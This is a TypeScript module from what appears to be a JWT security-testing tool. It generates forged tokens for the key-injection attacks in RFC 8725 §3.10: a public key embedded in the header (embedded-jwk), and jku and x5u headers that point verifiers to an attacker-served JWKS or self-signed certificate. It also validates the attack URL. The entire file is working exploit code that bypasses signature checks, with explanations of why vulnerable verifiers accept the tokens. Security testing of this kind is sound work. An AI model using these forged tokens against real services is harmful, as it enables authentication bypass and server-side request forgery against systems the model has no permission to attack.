/**
 * Attacks that bring their own key and tell the verifier where to find it (RFC 8725 §3.10): in the header
 * itself (`embedded-jwk`), or at a URL the attacker serves (`jku`: a JWKS; `x5u`: a certificate). Each token
 * is signed with a key made for the attack, named (kid) by its RFC 7638 thumbprint.
 */
import { keyToken } from './forge';
import type { FreshKey } from './fresh-key';
import { withHeaderMembers, type AttackTarget } from './target';
import { AttackError, type AttackVariant } from './types';

export async function embeddedJwkVariants(target: AttackTarget, key: FreshKey): Promise<AttackVariant[]> {
  const alg = key.alg.name;
  const header = withHeaderMembers(target.headerText, { alg, kid: key.jwk.kid, jwk: key.jwk });
  return [
    {
      kind: 'embedded-jwk',
      variant: alg,
      token: await keyToken(alg, key.privateKey, header, target.payloadSegment),
      explanation:
        `Signed (${alg}) with a key made for this attack, whose public JWK is in the header: a verifier that verifies with the key the token carries accepts whatever its sender signs. ` +
        'RFC 8725 §3.10: a verifier must not trust what the token says about its own key, only keys it already holds.',
      key: key.jwk,
    },
  ];
}

export async function jkuVariants(target: AttackTarget, key: FreshKey, url: string): Promise<AttackVariant[]> {
  const alg = key.alg.name;
  const header = withHeaderMembers(target.headerText, { alg, kid: key.jwk.kid, jku: url });
  return [
    {
      kind: 'jku',
      variant: alg,
      token: await keyToken(alg, key.privateKey, header, target.payloadSegment),
      explanation:
        `Signed (${alg}) with a key made for this attack; the header's jku points at the URL where the JWKS (jwks) is to be served: a verifier that fetches keys from the jku a token names, not from a fixed URL, accepts it (and the fetch alone is a server-side request forgery). ` +
        'RFC 8725 §3.10 warns against following jku blindly.',
      key: key.jwk,
      jwks: { keys: [{ ...key.jwk, use: 'sig', alg }] },
    },
  ];
}

export async function x5uVariants(target: AttackTarget, key: FreshKey, url: string, pem: string): Promise<AttackVariant[]> {
  const alg = key.alg.name;
  const header = withHeaderMembers(target.headerText, { alg, kid: key.jwk.kid, x5u: url });
  return [
    {
      kind: 'x5u',
      variant: alg,
      token: await keyToken(alg, key.privateKey, header, target.payloadSegment),
      explanation:
        `Signed (${alg}) with a key made for this attack; the header's x5u points at the URL where its self-signed certificate (pem) is to be served: a verifier that fetches the certificate an x5u names, and does not check it chains to a trusted issuer, accepts it. ` +
        'RFC 8725 §3.10 warns against following x5u blindly (it is also a server-side request forgery).',
      key: key.jwk,
      pem,
    },
  ];
}

/** The URL jku and x5u point at: http or https, no spaces or control characters. */
export function attackUrl(url: string | undefined, kind: 'jku' | 'x5u'): string {
  if (url === undefined) {
    throw new AttackError('option-missing', `${kind} needs the URL where the ${kind === 'jku' ? 'JWKS' : 'certificate'} will be served (--url)`);
  }
  if (!/^https?:\/\/[^\x00-\x20\x7f/?#]+([/?#][^\x00-\x20\x7f]*)?$/i.test(url)) {
    throw new AttackError('option-invalid', `the ${kind} URL must be an http or https URL without spaces`);
  }
  return url;
}
